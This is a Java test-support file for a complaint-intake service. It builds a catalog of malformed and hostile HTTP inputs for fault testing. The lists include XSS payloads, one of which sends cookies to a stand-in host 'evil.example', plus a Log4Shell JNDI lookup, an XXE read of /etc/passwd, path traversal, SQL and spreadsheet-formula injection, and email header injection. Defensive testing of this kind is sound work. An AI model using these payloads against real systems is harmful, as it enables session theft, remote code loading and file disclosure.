package com.complaintflow.faults;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * The catalog of malformed and hostile inputs, per channel. Deterministic: the same catalog every
 * run, so a failure names an input that can be looked at again ({@code category#n}).
 */
final class HostileInputs {
  /** One HTTP request. */
  record HttpInput(String id, String method, String path, Map<String, String> headers, byte[] body) {}

  static final String WEB = "/api/v1/complaints";
  static final String CALLS = "/api/v1/calls";
  static final String TWILIO = "/api/v1/calls/twilio";
  static final String CDR = "/api/v1/calls/asterisk-cdr";

  private final String apiKey;
  private final int maxBodyBytes;
  private final List<HttpInput> http = new ArrayList<>();
  private int seq;

  HostileInputs(String apiKey, int maxBodyBytes) {
    this.apiKey = apiKey;
    this.maxBodyBytes = maxBodyBytes;
  }

  static final List<String> SCRIPTS = List.of(
      "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert('x')>",
      "javascript:alert(document.cookie)", "\"><script>fetch('//evil.example/'+document.cookie)</script>",
      "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
      "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "{{7*7}}${7*7}<%= 7*7 %>", "'; DROP TABLE complaints; --",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "%3Cscript%3Ealert(1)%3C/script%3E",
      "<body onload=alert(1)>", "<<SCRIPT>alert('XSS');//<</SCRIPT>", "<div style=\"background:url(javascript:alert(1))\">",
      "\u202Egnp.exe", "\u0000\u0001\u0002\u0007\u001b[31mred\u001b[0m", "${jndi:ldap://evil.example/a}",
      "../../../../etc/passwd", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
      "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">", "\uFEFF\u200B\u200D zero width", "𝕳𝖊𝖑𝖑𝖔 😀👍🏽 ｆｕｌｌ",
      "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 zalgo", "<style>*{display:none}</style>", "\\u003cscript\\u003e",
      "<object data=\"evil.swf\"></object>", "<base href=\"//evil.example/\">", "=cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1");

  static final List<String> INJECTIONS = List.of(
      "Subject\r\nBcc: victim@example.com", "x\nX-Injected: 1", "x\r\n\r\n<html>body</html>", "x\rCc: a@example.com",
      "x%0d%0aBcc:%20a@example.com", "x\u2028Bcc: a@example.com", "x\u0085Bcc: a@example.com",
      "=?utf-8?B?DQpCY2M6IGFAZXhhbXBsZS5jb20=?=", "x\u0000Bcc: a@example.com", "a@example.com\r\nBcc: b@example.com");

  static final List<String> NUMBERS = List.of(
      "+7 (495) 123-45-67", "8 495 123 45 67", "84951234567", "+74951234567", "7-495-123-45-67", "+7.495.123.45.67",
      "0", "-1", "+", "++74951234567", "+7 495 123 45 67 ext. 89", "+7495123456789012345", "1e10", "1E+10", "0x1F",
      "0b1011", "NaN", "Infinity", "-Infinity", "١٢٣٤٥٦٧٨٩٠", "۱۲۳۴۵۶۷۸۹۰", "１２３４５６７８９０", "+٧ ٤٩٥ ١٢٣٤٥٦٧",
      "tel:+7-495-123-45-67", "+7 495 CALL-NOW", "00 7 495 123 45 67", "8 (800) 555-35-35", "+1 (555) 010-9999",
      "+44 20 7946 0958", "+359 2 123 4567", "  +7 495 123 45 67  ", "+7\u00a0495\u00a0123\u00a045\u00a067",
      "+7–495–123–45–67", "1,000,000", "1.000.000,00", "3.14159", "-0.0", "9".repeat(40), "+0 000 000 00 00",
      "+7 495 123 45 6\u0000");

  static final List<String> JSON_NUMBERS = List.of(
      "0", "-0", "1.0", "1e308", "1e309", "-1e309", "1E-400", "123456789012345678901234567890", "0.1e1", "1.5e+3",
      "007", "0x10", ".5", "5.", "+1", "NaN", "Infinity", "1_000", "１２３", "1e", "--1", "0.0000000000000000000001");

  List<HttpInput> http() {
    http.clear();
    webJsonBroken();
    webJsonWrongTypes();
    webJsonHugeAndDeep();
    webJsonInvalidUtf8();
    webJsonNumbers();
    webJsonHostileText();
    webForms();
    transportErrors();
    callJson();
    twilio();
    cdr();
    return List.copyOf(http);
  }

  private static final String VALID = "{\"name\":\"Ivan Petrov\",\"email\":\"ivan.catalog@example.com\","
      + "\"phone\":\"+7 495 123-45-67\",\"subject\":\"Late delivery\",\"text\":\"My order is two weeks late.\","
      + "\"consent\":{\"contactByEmail\":true}}";

  private void webJsonBroken() {
    // a valid document cut at many points, then classic breakage
    for (int cut = 1; cut < VALID.length(); cut += 4) {
      json("broken-json", VALID.substring(0, cut));
    }
    for (String s : List.of("", " ", "{", "}", "{]", "[}", "{\"text\":}", "{\"text\" \"x\"}", "{'text':'x'}",
        "{text:\"x\"}", "{\"text\":\"x\",}", "{\"text\":\"x\"}}", "{\"text\":\"x\"} trailing", "{\"text\":\"unterminated}",
        "{\"text\":\"bad \\escape\"}", "{\"text\":\"\\u12\"}", "{\"text\":\"\\uD800\"}", "{\"text\":\"x\"/*c*/}",
        "{\"text\":\"x\"}\u0000", "\uFEFF{\"email\":\"a@example.com\",\"text\":\"bom\"}", "null", "true", "1", "\"text\"",
        "[]", "[{\"email\":\"a@example.com\",\"text\":\"in array\"}]", "{\"email\":\"a@example.com\",\"text\":\"a\",\"text\":\"b\"}",
        "{\"\":\"\"}", "{\"text\":\"x\"\n\"email\":\"a@example.com\"}", "{\"text\":NaN}", "{\"text\":undefined}")) {
      json("broken-json", s);
    }
  }

  private void webJsonWrongTypes() {
    List<String> fields = List.of("name", "email", "phone", "accountId", "subject", "text", "orderRef", "productRef",
        "language", "consent", "submissionId");
    List<String> values = List.of("123", "true", "null", "[]", "{}", "[\"a\",\"b\"]", "{\"x\":{\"y\":1}}", "1.5e300");
    for (String field : fields) {
      for (String value : values) {
        json("wrong-type", "{\"email\":\"types@example.com\",\"text\":\"wrong types\",\"" + field + "\":" + value + "}");
      }
    }
    for (String consent : List.of("\"yes\"", "1", "{\"contactByEmail\":\"maybe\"}", "{\"contactByEmail\":[]}",
        "{\"dataProcessing\":2}", "{\"unknown\":true}")) {
      json("wrong-type", "{\"email\":\"consent@example.com\",\"text\":\"consent\",\"consent\":" + consent + "}");
    }
    for (String missing : List.of("{\"text\":\"no contact\"}", "{\"email\":\"no-text@example.com\"}", "{}",
        "{\"email\":\"\",\"text\":\"\"}", "{\"email\":\"   \",\"phone\":\"\",\"accountId\":\"\",\"text\":\"blank contacts\"}")) {
      json("missing-field", missing);
    }
    for (String email : List.of("plainaddress", "@example.com", "a@", "a@@example.com", "a b@example.com",
        "a@example..com", "\"quoted\"@example.com", "a@[127.0.0.1]", "a@xn--80ak6aa92e.com", "иван@пример.рф",
        "a".repeat(300) + "@example.com", "a@example.com,b@example.com", "a@example.com\r\nBcc: b@example.com",
        "<a@example.com>", "Ivan <a@example.com>", "a@localhost", "a@-example.com", "a+tag@example.com")) {
      json("bad-email", "{\"email\":" + q(email) + ",\"text\":\"email formats\"}");
    }
  }

  private void webJsonHugeAndDeep() {
    for (String field : List.of("name", "email", "phone", "accountId", "subject", "text", "orderRef", "productRef", "language")) {
      for (int size : new int[] {5_000, 30_000, maxBodyBytes + 10}) {
        json("huge-field", "{\"email\":\"huge@example.com\",\"text\":\"huge\",\"" + field + "\":\"" + "Ж".repeat(size / 2) + "\"}");
      }
    }
    json("huge-field", "{\"email\":\"many@example.com\",\"text\":\"many keys\"," + manyKeys(3_000) + "}");
    json("huge-field", " ".repeat(maxBodyBytes + 1));
    for (int depth : new int[] {10, 100, 500, 1_000, 5_000, 20_000, 30_000}) {
      json("deep-nesting", "{\"email\":\"deep@example.com\",\"text\":\"deep\",\"extra\":" + "[".repeat(depth) + "]".repeat(depth) + "}");
      json("deep-nesting", "{\"email\":\"deep@example.com\",\"text\":" + "{\"a\":".repeat(depth) + "1" + "}".repeat(depth) + "}");
      json("deep-nesting", "[".repeat(depth));
    }
  }

  private void webJsonInvalidUtf8() {
    List<byte[]> bad = List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xA0, (byte) 0xA1},
        new byte[] {(byte) 0xE2, 0x28, (byte) 0xA1}, new byte[] {(byte) 0xE2, (byte) 0x82, 0x28},
        new byte[] {(byte) 0xF0, 0x28, (byte) 0x8C, (byte) 0xBC}, new byte[] {(byte) 0xF8, (byte) 0xA1, (byte) 0xA1, (byte) 0xA1, (byte) 0xA1},
        new byte[] {(byte) 0xFC, (byte) 0xA1, (byte) 0xA1, (byte) 0xA1, (byte) 0xA1, (byte) 0xA1}, new byte[] {(byte) 0xC0, (byte) 0xAF},
        new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xEF, (byte) 0xBF, (byte) 0xBE},
        new byte[] {(byte) 0xFF, (byte) 0xFE}, new byte[] {(byte) 0x80}, new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
        "Жалоба".getBytes(java.nio.charset.Charset.forName("windows-1251")),
        "Жалоба".getBytes(java.nio.charset.Charset.forName("KOI8-R")), "Жалоба".getBytes(StandardCharsets.UTF_16LE));
    for (byte[] b : bad) {
      for (String field : List.of("text", "email", "name")) {
        String before = "{\"email\":\"utf8@example.com\",\"text\":\"utf8\",\"" + field + "\":\"x";
        add("invalid-utf8", "POST", WEB, Map.of("Content-Type", "application/json; charset=utf-8"),
            concat(before.getBytes(StandardCharsets.UTF_8), b, "\"}".getBytes(StandardCharsets.UTF_8)));
      }
    }
    add("invalid-utf8", "POST", WEB, Map.of("Content-Type", "application/json; charset=utf-16"),
        "{\"email\":\"utf16@example.com\",\"text\":\"utf16\"}".getBytes(StandardCharsets.UTF_16));
    add("invalid-utf8", "POST", WEB, Map.of("Content-Type", "application/json; charset=klingon"),
        "{\"email\":\"charset@example.com\",\"text\":\"unknown charset\"}".getBytes(StandardCharsets.UTF_8));
  }

  private void webJsonNumbers() {
    for (String n : NUMBERS) {
      json("numbers", "{\"phone\":" + q(n) + ",\"text\":\"phone formats\"}");
    }
    for (String n : JSON_NUMBERS) {
      json("numbers", "{\"email\":\"num@example.com\",\"text\":\"json numbers\",\"accountId\":" + n + "}");
      json("numbers", "{\"phone\":" + n + ",\"text\":\"json number phone\"}");
    }
  }

  private void webJsonHostileText() {
    for (String s : SCRIPTS) {
      json("html-script", "{\"email\":\"xss@example.com\",\"subject\":" + q(s) + ",\"text\":" + q(s) + "}");
      json("html-script", "{\"email\":\"xss@example.com\",\"name\":" + q(s) + ",\"text\":\"name is hostile\"}");
    }
    for (String s : INJECTIONS) {
      json("header-injection", "{\"email\":\"inj@example.com\",\"subject\":" + q(s) + ",\"text\":\"subject injection\"}");
      json("header-injection", "{\"email\":" + q(s) + ",\"text\":\"email injection\"}");
      json("header-injection", "{\"email\":\"inj@example.com\",\"name\":" + q(s) + ",\"text\":\"name injection\"}");
    }
    // HTTP-level header injection: values the JDK client refuses to send
    for (String v : List.of("abc\tdef", "x y z", "\u00ff\u00fe", "=?utf-8?Q?=0D=0A?=", "a".repeat(4000), "null", "../../etc")) {
      add("header-injection", "POST", WEB, Map.of("Content-Type", "application/json", "Idempotency-Key", v,
          "X-Forwarded-For", v, "User-Agent", v), "{\"email\":\"hdr@example.com\",\"text\":\"hostile headers\"}".getBytes(StandardCharsets.UTF_8));
    }
  }

  private void webForms() {
    List<String> forms = new ArrayList<>(List.of("", "=", "&&&", "text", "text=", "email=a@example.com",
        "text=%ZZ&email=a@example.com", "text=%&email=a@example.com", "text=%C3%28&email=a@example.com",
        "text=%FF%FE&email=a@example.com", "text=a&text=b&email=a@example.com", "email=a%40example.com&text=%00%01%02",
        "email=a@example.com&text=" + "x".repeat(40_000), "email=a@example.com&text=a&consentEmail=maybe",
        "email=a@example.com&text=a&consentDataProcessing=2", "==&==&text==&email==", "email=a@example.com;text=semicolon",
        "email=a@example.com&text=a+b+c%2Bd", "phone=%2B7+495+123-45-67&text=form+phone", "email=a@example.com&text=a&" + "k=v&".repeat(5_000)));
    for (String s : SCRIPTS) {
      forms.add("email=form.xss%40example.com&text=" + URLEncoder.encode(s, StandardCharsets.UTF_8));
    }
    for (String s : INJECTIONS) {
      forms.add("email=form.inj%40example.com&text=x&subject=" + URLEncoder.encode(s, StandardCharsets.UTF_8));
    }
    for (String n : NUMBERS) {
      forms.add("text=form+numbers&phone=" + URLEncoder.encode(n, StandardCharsets.UTF_8));
    }
    for (String f : forms) {
      add("form", "POST", WEB, Map.of("Content-Type", "application/x-www-form-urlencoded"), f.getBytes(StandardCharsets.ISO_8859_1));
    }
  }

  private void transportErrors() {
    byte[] ok = "{\"email\":\"t@example.com\",\"text\":\"transport\"}".getBytes(StandardCharsets.UTF_8);
    for (String type : List.of("text/plain", "text/xml", "application/xml", "multipart/form-data; boundary=x",
        "application/octet-stream", "image/png", "application/jsonp", "json", "*/*", "application/x-www-form-urlencoded-evil",
        "application/json\r\nX-Injected: 1", "")) {
      add("content-type", "POST", WEB, type.isEmpty() ? Map.of() : Map.of("Content-Type", type), ok);
    }
    for (Map<String, String> auth : List.of(Map.<String, String>of(), Map.of("X-Api-Key", "wrong"),
        Map.of("X-Api-Key", apiKey + "x"), Map.of("X-Api-Key", apiKey.substring(0, apiKey.length() - 1)),
        Map.of("Authorization", "Bearer"), Map.of("Authorization", "Bearer " + apiKey.toUpperCase()),
        Map.of("Authorization", "Basic !!!notbase64"), Map.of("Authorization", "Basic " + b64("user")),
        Map.of("Authorization", "Basic " + b64(":")), Map.of("Authorization", "Digest " + apiKey),
        Map.of("X-Api-Key", "' OR '1'='1"), Map.of("X-Api-Key", "\u00e9" + apiKey))) {
      Map<String, String> h = new LinkedHashMap<>(auth);
      h.put("Content-Type", "application/json");
      h.put("X-No-Default-Key", "1");
      add("auth", "POST", WEB, h, ok);
    }
    for (String[] mp : List.of(new String[] {"GET", WEB}, new String[] {"PUT", WEB}, new String[] {"DELETE", CALLS},
        new String[] {"POST", "/api/v1/complaints/../../etc/passwd"}, new String[] {"POST", "/api/v2/complaints"},
        new String[] {"POST", "/%00"}, new String[] {"TRACE", WEB}, new String[] {"POST", "/api/v1/calls/nope"})) {
      add("routing", mp[0], mp[1], Map.of("Content-Type", "application/json"), ok);
    }
    for (int extra : new int[] {1, 1000, 100_000}) {
      add("oversize", "POST", WEB, Map.of("Content-Type", "application/json"), new byte[maxBodyBytes + extra]);
      add("oversize", "POST", CALLS, Map.of("Content-Type", "application/json"), new byte[maxBodyBytes + extra]);
    }
    add("oversize", "POST", WEB, Map.of("Content-Type", "application/json", "Content-Length", "99999999999"), ok);
  }

  private void callJson() {
    List<String> calls = new ArrayList<>(List.of("{}", "{\"callId\":\"\"}", "{\"callerNumber\":\"+74951234567\"}",
        "{\"callId\":123,\"callerNumber\":\"+74951234567\"}", "{\"callId\":[\"a\"],\"callerNumber\":\"+74951234567\"}",
        "not json", "[]", "{\"callId\":\"c\",\"callerNumber\":{}}"));
    for (String t : List.of("2025-13-45T99:99:99Z", "yesterday", "0", "-1", "1e20", "2025-03-01", "2025-03-01T09:00:00",
        "Sat, 01 Mar 2025 10:00:00 +0000", "", "9999-12-31T23:59:59Z", "0000-01-01T00:00:00Z")) {
      calls.add("{\"callId\":\"CALLID\",\"callerNumber\":\"+74951234567\",\"startedAt\":" + q(t) + "}");
      calls.add("{\"callId\":\"CALLID\",\"callerNumber\":\"+74951234567\",\"endedAt\":" + q(t) + ",\"notes\":\"x\"}");
    }
    for (String d : List.of("answered", "ANSWERED", "no answer", "NO_ANSWER", "busy", "exploded", "", "\u0000", "<script>")) {
      calls.add("{\"callId\":\"CALLID\",\"callerNumber\":\"+74951234567\",\"disposition\":" + q(d) + "}");
    }
    for (String n : NUMBERS) {
      calls.add("{\"callId\":\"CALLID\",\"callerNumber\":" + q(n) + ",\"notes\":\"number formats\"}");
    }
    for (String n : JSON_NUMBERS) {
      calls.add("{\"callId\":\"CALLID\",\"callerNumber\":\"+74951234567\",\"durationSeconds\":" + n + "}");
    }
    for (String s : SCRIPTS.subList(0, 10)) {
      calls.add("{\"callId\":\"CALLID\",\"callerNumber\":\"+74951234567\",\"notes\":" + q(s) + ",\"transcript\":" + q(s) + "}");
    }
    for (String c : calls) {
      add("call-json", "POST", CALLS, Map.of("Content-Type", "application/json"),
          c.replace("CALLID", "cat-call-" + seq).getBytes(StandardCharsets.UTF_8));
    }
  }

  private void twilio() {
    List<String> forms = new ArrayList<>(List.of("", "CallSid=", "CallStatus=completed", "CallSid=CAX&CallStatus=completed",
        "CallSid=CAX&From=%2B74951112233&CallStatus=exploded", "CallSid=CAX&From=garbage&CallStatus=completed",
        "CallSid=CAX&From=%2B74951112233&CallStatus=completed&CallDuration=-5",
        "CallSid=CAX&From=%2B74951112233&CallStatus=completed&CallDuration=abc",
        "CallSid=CAX&From=%2B74951112233&CallStatus=completed&Timestamp=garbage",
        "CallSid=CAX&From=%2B74951112233&CallStatus=busy&Direction=outbound-api",
        "CallSid=CAX&From=%2B74951112233&CallStatus=no-answer&Direction=outbound-api&To=",
        "CallSid=CAX&From=%ZZ&CallStatus=completed", "CallSid=CAX&From=%2B74951112233&CallStatus=failed&CallSid=CAY",
        "CallSid=CAX&From=%2B74951112233&CallStatus=canceled&Timestamp=Sat%2C+01+Mar+2025+10%3A00%3A00+%2B0000"));
    for (String n : NUMBERS) {
      forms.add("CallSid=CAX&CallStatus=completed&From=" + URLEncoder.encode(n, StandardCharsets.UTF_8));
    }
    for (String s : INJECTIONS) {
      forms.add("CallSid=CAX&CallStatus=completed&From=%2B74951112233&CallerName=" + URLEncoder.encode(s, StandardCharsets.UTF_8));
    }
    for (String f : forms) {
      add("twilio", "POST", TWILIO, Map.of("Content-Type", "application/x-www-form-urlencoded"),
          f.replace("CAX", "CAcat" + seq).replace("CAY", "CAcaty" + seq).getBytes(StandardCharsets.ISO_8859_1));
    }
  }

  private static final String[] CDR_GOOD = {"", "84951234567", "100", "complaints", "\"Ivan\" <84951234567>", "SIP/trunk-1",
      "", "Queue", "complaints,t", "2025-03-01 12:00:00", "", "2025-03-01 12:02:00", "120", "0", "NO ANSWER",
      "DOCUMENTATION", "UNIQ", ""};

  private void cdr() {
    List<String> lines = new ArrayList<>();
    for (int columns = 0; columns <= 30; columns++) {
      List<String> cols = new ArrayList<>();
      for (int i = 0; i < columns; i++) {
        cols.add(i < CDR_GOOD.length ? CDR_GOOD[i] : "extra" + i);
      }
      lines.add(csv(cols));
    }
    for (int i = 0; i < CDR_GOOD.length; i++) {
      for (String bad : List.of("\"unterminated", "x\"y", "2025-02-30 25:61:61", "-1", "", "\u0000\u0001", "<script>alert(1)</script>")) {
        String[] cols = CDR_GOOD.clone();
        cols[i] = bad;
        lines.add(csvRaw(cols));
      }
    }
    for (String n : NUMBERS) {
      String[] cols = CDR_GOOD.clone();
      cols[1] = n;
      lines.add(csv(List.of(cols)));
    }
    lines.add("\"\",\"8495\"\"\",\"100\"");
    lines.add(",,,,,,,,,,,,,,,,,");
    lines.add("\"a\";\"b\";\"c\"");
    lines.add("\t\t\t");
    for (String l : lines) {
      add("cdr", "POST", CDR, Map.of("Content-Type", "text/csv"), l.replace("UNIQ", "1740819600." + seq).getBytes(StandardCharsets.UTF_8));
    }
    // a caller-id name in cp1251 bytes
    String[] cols = CDR_GOOD.clone();
    cols[4] = "CP1251NAME";
    byte[] line = csv(List.of(cols)).replace("UNIQ", "1740819600.cp" + seq).getBytes(StandardCharsets.UTF_8);
    add("cdr", "POST", CDR, Map.of("Content-Type", "text/csv"), replace(line, "CP1251NAME",
        "Иван".getBytes(java.nio.charset.Charset.forName("windows-1251"))));
  }

  // --- helpers

  private void json(String category, String body) {
    add(category, "POST", WEB, Map.of("Content-Type", "application/json"), body.getBytes(StandardCharsets.UTF_8));
  }

  private void add(String category, String method, String path, Map<String, String> headers, byte[] body) {
    String id = category + "#" + (seq++);
    Map<String, String> h = new LinkedHashMap<>(headers);
    if (h.remove("X-No-Default-Key") == null) {
      h.put("X-Api-Key", apiKey);
    }
    h.put("X-Request-Id", "cat-" + id.replace('#', '-'));
    http.add(new HttpInput(id, method, path, h, body));
  }

  static String q(String s) {
    StringBuilder b = new StringBuilder("\"");
    for (char c : s.toCharArray()) {
      switch (c) {
        case '"' -> b.append("\\\"");
        case '\\' -> b.append("\\\\");
        default -> {
          if (c < 0x20) {
            b.append(String.format("\\u%04x", (int) c));
          } else {
            b.append(c);
          }
        }
      }
    }
    return b.append('"').toString();
  }

  private static String manyKeys(int n) {
    StringBuilder b = new StringBuilder();
    for (int i = 0; i < n; i++) {
      b.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":").append(i);
    }
    return b.toString();
  }

  private static String csv(List<String> cols) {
    List<String> quoted = new ArrayList<>();
    for (String c : cols) {
      quoted.add("\"" + c.replace("\"", "\"\"") + "\"");
    }
    return String.join(",", quoted);
  }

  private static String csvRaw(String[] cols) {
    List<String> out = new ArrayList<>();
    for (String c : cols) {
      out.add(c.startsWith("\"") || c.contains("\"") ? c : "\"" + c + "\"");
    }
    return String.join(",", out);
  }

  private static String b64(String s) {
    return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8));
  }

  static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] p : parts) {
      out.writeBytes(p);
    }
    return out.toByteArray();
  }

  private static byte[] replace(byte[] in, String marker, byte[] with) {
    String s = new String(in, StandardCharsets.ISO_8859_1);
    int at = s.indexOf(marker);
    return concat(s.substring(0, at).getBytes(StandardCharsets.ISO_8859_1), with,
        s.substring(at + marker.length()).getBytes(StandardCharsets.ISO_8859_1));
  }
}
